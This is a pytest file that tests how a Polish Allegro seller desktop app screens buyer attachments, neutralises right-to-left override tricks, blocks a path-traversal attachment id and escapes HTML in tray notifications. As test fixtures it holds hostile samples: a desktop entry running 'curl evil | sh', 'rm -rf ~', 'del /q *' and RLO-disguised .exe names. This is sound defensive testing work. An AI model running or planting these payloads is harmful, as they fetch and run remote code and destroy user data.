"""Buyers' attachments: only images, PDFs and plain text whose content agrees are opened; anything else is kept
under a neutralised name and shown in its folder with a warning. Bidi controls are shown, never obeyed."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any, Callable

import pytest
from PySide6.QtWidgets import QLabel, QMessageBox, QPushButton

from ui_sample_data import (
    ANNA,
    ANNA_ATTACHMENT,
    PNG_BYTES,
    add_thread,
    attachment,
    message,
    sync_into_cache,
    thread_id,
    uuid_of,
)

from magazyn_desktop.app.context import AppContext
from magazyn_desktop.fake_allegro import DemoAllegro, DisguisedFile
from magazyn_desktop.paths import AppPaths
from magazyn_desktop.store.db import connect
from magazyn_desktop.store.inbox_records import Filter
from magazyn_desktop.ui.attachments import assess_download
from magazyn_desktop.ui.conversation_list_model import ROW_ROLE, ConversationListModel
from magazyn_desktop.ui.visible_text import visible_controls

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
DESKTOP_ENTRY = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\nName=zdjecie\n"
SCRIPT = b"#!/bin/sh\nrm -rf ~\n"
RLO = "\u202e"
BIDI = thread_id("annaBidi")
DOWNLOAD_REQUEST = "GET /messaging/message-attachments/{id}"


@pytest.mark.parametrize(("name", "content", "declared", "saved_as", "opened"), [
    ("zdjecie.png", PNG_BYTES, "image/png", "zdjecie.png", True),
    ("zdjecie.jpg", PNG_BYTES, "image/jpeg", "zdjecie.jpg", True),  # an image viewer reads either
    ("skan.JPEG", JPEG, None, "skan.JPEG", True),
    ("paragon.pdf", PDF, "application/pdf", "paragon.pdf", True),
    ("paragon.pdf", PDF, "application/octet-stream", "paragon.pdf", True),
    ("notatka.txt", "Proszę o zwrot. Żółw.".encode(), "text/plain", "notatka.txt", True),
    ("faktura.pdf.exe", EXE, "application/x-msdownload", "faktura.pdf_exe.bin", False),
    ("faktura.pdf.exe", EXE, "application/pdf", "faktura.pdf_exe.bin", False),
    ("zdjecie.desktop", DESKTOP_ENTRY, "image/png", "zdjecie_desktop.bin", False),
    ("run.bat", b"@echo off\r\ndel /q *\r\n", "text/plain", "run_bat.bin", False),
    ("x.sh", SCRIPT, "text/plain", "x_sh.bin", False),
    ("zdjecie.png", EXE, "image/png", "zdjecie_png.bin", False),  # the content is no image
    ("paragon.pdf", PNG_BYTES, "application/pdf", "paragon_pdf.bin", False),
    ("notatka.txt", b"text\x00with a NUL", "text/plain", "notatka_txt.bin", False),
    ("notatka.txt", b"\xff\xfe not UTF-8", "text/plain", "notatka_txt.bin", False),
    ("paragon.pdf", PDF, "text/html", "paragon_pdf.bin", False),  # the declared type disagrees
    ("zdjecie.png", b"", "image/png", "zdjecie_png.bin", False),
    ("README", b"plain words", "text/plain", "README.bin", False),
    (f"faktura{RLO}gpj.exe", EXE, "image/jpeg", "faktura⟨U+202E⟩gpj_exe.bin", False),
    (f"zdj{RLO}gnp.png", PNG_BYTES, "image/png", "zdj⟨U+202E⟩gnp.png", True),
])
def test_assess_download(name: str, content: bytes, declared: str | None, saved_as: str, opened: bool) -> None:
    assessed = assess_download(name, content, declared)
    assert (assessed.file_name, assessed.openable) == (saved_as, opened)


def test_visible_controls_marks_every_bidi_control() -> None:
    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    shown = visible_controls(f"a{controls}b")
    assert shown == "a" + "".join(f"⟨U+{ord(c):04X}⟩" for c in controls) + "b"
    assert visible_controls("Dzień dobry, żółw") == "Dzień dobry, żółw"


def _download(qtbot: Any, window: Any) -> Path:
    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
        window.open_conversation(ANNA)
    attachment = window.conversation_view().detail.messages[1].attachments[0]
    with qtbot.waitSignal(window.attachment_saved, timeout=5000) as blocker:
        window.conversation_view().attachment_requested.emit(attachment)
    return blocker.args[0]


def _settle(qtbot: Any, window: Any) -> None:
    qtbot.waitUntil(lambda: window._pool.active_count() == 0 and window._writer.active_count() == 0, timeout=5000)


@pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
@pytest.mark.parametrize(("content", "name", "declared"), [
    (EXE, "faktura.pdf.exe", "application/x-msdownload"),
    (DESKTOP_ENTRY, "zdjecie.desktop", "image/png"),
    (SCRIPT, "x.sh", None),
    (EXE, f"faktura{RLO}gpj.exe", "image/jpeg"),
])
def test_a_risky_attachment_is_kept_and_shown_in_its_folder(qtbot: Any, make_window: Callable[..., Any],
                                                            fake_allegro: DemoAllegro, context: AppContext,
                                                            content: bytes, name: str, declared: str | None) -> None:
    fake_allegro.faults.disguised_download = DisguisedFile(name, content, declared)
    window = make_window()
    opened: list[Path] = []
    folders: list[Path] = []
    window.open_file = opened.append
    window.open_folder = folders.append
    path = _download(qtbot, window)
    assert path.parent == context.paths.attachments and path.suffix == ".bin"
    assert path.read_bytes() == content and opened == []
    box = window.findChild(QMessageBox, "attachmentWarning")
    assert box is not None
    qtbot.waitUntil(box.isVisible, timeout=5000)
    assert "⟨U+202E⟩" in box.text() or RLO not in name
    assert RLO not in box.text()
    show = box.findChild(QPushButton, "showInFolder")
    assert show is not None and show.text() == "Pokaż w folderze"
    show.click()
    assert folders == [context.paths.attachments] and opened == []
    _settle(qtbot, window)


def test_a_safe_attachment_is_opened_directly(qtbot: Any, make_window: Callable[..., Any]) -> None:
    window = make_window()
    opened: list[Path] = []
    window.open_file = opened.append
    path = _download(qtbot, window)
    assert opened == [path] and path.name == "zdjęcie paczki.jpg"
    assert window.findChild(QMessageBox, "attachmentWarning") is None
    _settle(qtbot, window)


@pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
def test_a_safe_attachment_with_no_program_to_open_it_says_where_it_is(qtbot: Any,
                                                                      make_window: Callable[..., Any]) -> None:
    window = make_window()
    folders: list[Path] = []
    window.open_file = lambda _path: False  # the system has no viewer for it
    window.open_folder = folders.append
    path = _download(qtbot, window)
    box = window.findChild(QMessageBox, "noViewer")
    assert box is not None
    qtbot.waitUntil(box.isVisible, timeout=5000)
    assert str(path) in box.text() and "nie ma programu" in box.text()
    assert str(path) in window.status_text()
    show = box.findChild(QPushButton, "showInFolder")
    assert show is not None
    show.click()
    assert folders == [path.parent]
    _settle(qtbot, window)


def test_a_hostile_attachment_id_never_reaches_allegro(qtbot: Any, make_window: Callable[..., Any],
                                                       fake_allegro: DemoAllegro, sample_paths: AppPaths) -> None:
    window = make_window()
    db = sqlite3.connect(sample_paths.database)  # as if a damaged cache or a hostile answer had stored it
    db.execute("UPDATE attachments SET remote_id='../../../me' WHERE remote_id=?", (ANNA_ATTACHMENT,))
    db.commit()
    db.close()
    opened: list[Path] = []
    window.open_file = opened.append
    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
        window.open_conversation(ANNA)
    _settle(qtbot, window)
    asked = fake_allegro.request_counts()
    attachment = window.conversation_view().detail.messages[1].attachments[0]
    with qtbot.waitSignal(window.user_message, timeout=5000) as blocker:
        window.conversation_view().attachment_requested.emit(attachment)
    assert "załącznik" in blocker.args[0].lower()
    assert opened == [] and not any(window._paths.attachments.glob("*"))
    _settle(qtbot, window)
    assert fake_allegro.request_counts() == asked  # not even a request to /me


def _with_bidi_conversation(fake: DemoAllegro) -> None:
    data = fake.data
    login = f"ann{RLO}a_k"
    named = attachment(data, uuid_of(0xB1D1), f"zdj{RLO}gpj.exe", "image/jpeg")
    add_thread(data, BIDI, login, [
        message(data, f"Zobacz plik {RLO}gpj.exe\u2066x\u2069", 1, login, attachments=[named]),
    ], read=False)


def test_conversation_view_shows_bidi_controls(qtbot: Any, make_window: Callable[..., Any],
                                              fake_allegro: DemoAllegro) -> None:
    _with_bidi_conversation(fake_allegro)
    window = make_window()
    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
        window.open_conversation(BIDI)
    view = window.conversation_view()
    assert view.message_texts() == ["Zobacz plik ⟨U+202E⟩gpj.exe⟨U+2066⟩x⟨U+2069⟩"]
    shown = [label.text() for label in view.findChildren(QLabel)]
    assert any("ann⟨U+202E⟩a_k" in text for text in shown)
    [(label, tooltip)] = view.attachment_labels()  # the attachment's button, painted on its card
    assert "⟨U+202E⟩" in label and "⟨U+202E⟩" in tooltip
    everything = shown + [label, tooltip] + view.message_texts()
    assert not any(RLO in text or "\u2066" in text for text in everything)
    _settle(qtbot, window)


def test_list_rows_show_bidi_controls(qtbot: Any, sample_paths: AppPaths, fake_allegro: DemoAllegro) -> None:
    from PySide6.QtCore import Qt

    _with_bidi_conversation(fake_allegro)
    sync_into_cache(sample_paths, fake_allegro)
    model = ConversationListModel(lambda: connect(sample_paths.database, read_only=True))
    model.set_query(Filter.ALL, "")
    index = next(model.index(r, 0) for r in range(model.rowCount())
                 if model.index(r, 0).data(ROW_ROLE).id == BIDI)
    texts = [index.data(role) for role in (Qt.ItemDataRole.DisplayRole, Qt.ItemDataRole.ToolTipRole,
                                           Qt.ItemDataRole.AccessibleTextRole)]
    assert all(RLO not in text and "⟨U+202E⟩" in text for text in texts), texts
    model.close()


def test_order_panel_shows_bidi_controls_in_what_the_buyer_typed(qtbot: Any) -> None:
    from dataclasses import replace

    from magazyn_desktop.domain.records import LineItem, Order, Shipment
    from magazyn_desktop.ui.order_panel import OrderPanel

    panel = OrderPanel()
    qtbot.addWidget(panel)
    order = Order(id=uuid_of(0x1001), buyer_login="anna_k", status="READY_FOR_PROCESSING", fulfillment_status="SENT",
                  delivery_method="Allegro Paczkomaty InPost",
                  line_items=(LineItem(offer_id="1", name="Kubek ceramiczny 300 ml", sku="KUB-300-BIA",
                                       quantity=2),),
                  shipments=(Shipment(waybill="620999888777666555444333", carrier="INPOST"),))
    item = replace(order.line_items[0], name=f"Kubek {RLO}gpj.exe")
    panel.show_order(replace(order, message_to_seller=f"Proszę {RLO}odnapaz", line_items=(item,)))
    texts = [label.text() for label in panel.findChildren(QLabel)]
    assert any("⟨U+202E⟩odnapaz" in text for text in texts)
    assert not any(RLO in text for text in texts)
    assert panel.shown_items()[0][0] == "Kubek ⟨U+202E⟩gpj.exe"


def test_tray_notifications_show_bidi_controls() -> None:
    from types import SimpleNamespace

    from magazyn_desktop.ui.tray import notification_text

    login, text = notification_text(SimpleNamespace(author_login=f"ann{RLO}a", text=f"Zwrot {RLO}gpj.exe"))
    assert (login, text) == ("ann⟨U+202E⟩a", "Zwrot ⟨U+202E⟩gpj.exe")


@pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints")  # offscreen platform, dialogs
def test_a_saved_copy_is_checked_like_a_download(qtbot: Any, make_window: Callable[..., Any],
                                                 fake_allegro: DemoAllegro, sample_paths: AppPaths,
                                                 tmp_path: Path) -> None:
    window = make_window()
    kept = tmp_path / "kopie" / "faktura.pdf.exe"
    kept.parent.mkdir()
    kept.write_bytes(EXE)
    db = sqlite3.connect(sample_paths.database)
    db.execute("UPDATE attachments SET local_path=? WHERE remote_id=?", (str(kept), ANNA_ATTACHMENT))
    db.commit()
    db.close()
    opened: list[Path] = []
    folders: list[Path] = []
    window.open_file = opened.append
    window.open_folder = folders.append
    with qtbot.waitSignal(window.conversation_displayed, timeout=5000):
        window.open_conversation(ANNA)
    attachment = window.conversation_view().detail.messages[1].attachments[0]
    window.conversation_view().attachment_requested.emit(attachment)
    box = window.findChild(QMessageBox, "attachmentWarning")
    assert box is not None and opened == []
    box.findChild(QPushButton, "showInFolder").click()
    assert folders == [kept.parent]
    _settle(qtbot, window)
    assert DOWNLOAD_REQUEST not in fake_allegro.request_counts()  # the saved copy, not a new download


def test_tray_notifications_never_carry_markup_a_linux_notification_server_would_render(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from types import SimpleNamespace

    from magazyn_desktop.ui import tray

    message = SimpleNamespace(author_login="kupujacy", text="<b>Pilne</b> <a href='http://x.invalid'>klik</a> & <img src=x>")
    monkeypatch.setattr(tray.sys, "platform", "linux")
    _, text = tray.notification_text(message)
    assert "<" not in text and ">" not in text
    assert text == "&lt;b&gt;Pilne&lt;/b&gt; &lt;a href='http://x.invalid'&gt;klik&lt;/a&gt; &amp; &lt;img src=x&gt;"
    monkeypatch.setattr(tray.sys, "platform", "win32")  # shown as plain text there: escaping would show "&lt;"
    assert tray.notification_text(message)[1] == message.text
